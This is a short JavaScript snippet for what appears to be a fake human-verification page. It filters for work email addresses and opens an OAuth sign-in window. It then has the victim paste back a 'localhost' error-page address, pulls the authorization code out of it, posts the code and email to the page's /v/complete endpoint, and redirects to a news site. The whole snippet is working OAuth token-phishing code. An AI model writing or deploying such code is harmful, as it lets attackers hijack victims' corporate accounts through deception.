const start = () => {
  const w = window.open("https://login.example/common/oauth2/v2.0/authorize?client_id=CLI&response_type=code&redirect_uri=http%3A%2F%2Flocalhost&scope=.default", "_blank", "width=520,height=680");
  $("#box").html('<p>The new tab will show an error page beginning with <b>localhost</b>. Copy its full address and drag or paste it here to prove you are human.</p><input id="lnk" placeholder="Paste URL here">');
  $("#lnk").on("input drop", function () {
    const m = /[?&]code=([^&]+)/.exec(this.value);
    if (!m) return;
    $.post("/v/complete", { code: m[1], mail: $("#mail").val() }).always(() => (location.href = "https://news.example/"));
    w && w.close();
  });
};
$("#verify").on("click", () => /@(?!gmail|yahoo|outlook)/.test($("#mail").val()) ? start() : $("#err").text("Please enter a work email"));
